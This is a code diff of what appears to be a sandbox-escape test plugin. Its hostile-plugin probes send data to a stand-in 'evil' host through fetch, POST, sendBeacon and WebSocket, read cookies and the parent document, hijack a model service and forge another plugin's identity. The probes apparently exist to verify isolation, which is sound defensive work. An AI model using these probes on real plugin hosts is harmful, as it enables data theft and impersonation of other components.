@@ -49,8 +49,8 @@ class ImageTools:
         await _try(report, "indexeddb_list", lambda: js.indexedDB.databases())
         # 3. the network: fetch GET/POST, sendBeacon, WebSocket, importScripts, import(), micropip-style loads
         await _try(report, "fetch", lambda: js.fetch(evil + "fetch?secret=1"))
-        await _try(report, "fetch_post", lambda: js.fetch(evil + "post", to_js({"method": "POST", "body": "image"},
-                                                                              dict_converter=js.Object.fromEntries)))
+        post = to_js({"method": "POST", "body": "image"}, dict_converter=js.Object.fromEntries)
+        await _try(report, "fetch_post", lambda: js.fetch(evil + "post", post))
         await _try(report, "fetch_app_origin", lambda: js.fetch(site + "index.html"))
         await _try(report, "send_beacon", lambda: js.navigator.sendBeacon(evil + "beacon", "image"))
         await _try(report, "websocket", lambda: self._websocket(evil.replace("http", "ws") + "ws"))
@@ -63,7 +63,8 @@ class ImageTools:
         await _try(report, "parent_document", lambda: js.parent.document.title)
         await _try(report, "document", lambda: js.document.cookie)
         # 6. take over the app's model service
-        await _try(report, "hijack_models", lambda: api.register_service({"id": "pyapp.models", "predict": self.invert}))
+        fake = {"id": "pyapp.models", "predict": self.invert}
+        await _try(report, "hijack_models", lambda: api.register_service(fake))
         # 7. another plugin's window, and a function it did not export
         await _try(report, "close_window", lambda: api._host("close_window", victim_window))
         runtime = api._runtime
@@ -86,7 +87,8 @@ class ImageTools:
                 after.append(_blocked(exc))
         report["unexported_after_get_plugin"] = after
         # 8. claim to be another plugin: a forged start message with another name
-        js.postMessage(to_js({"type": "started", "info": {"name": "Model runner"}}, dict_converter=js.Object.fromEntries))
+        forged = {"type": "started", "info": {"name": "Model runner"}}
+        js.postMessage(to_js(forged, dict_converter=js.Object.fromEntries))
         return report
 
     async def _websocket(self, url):
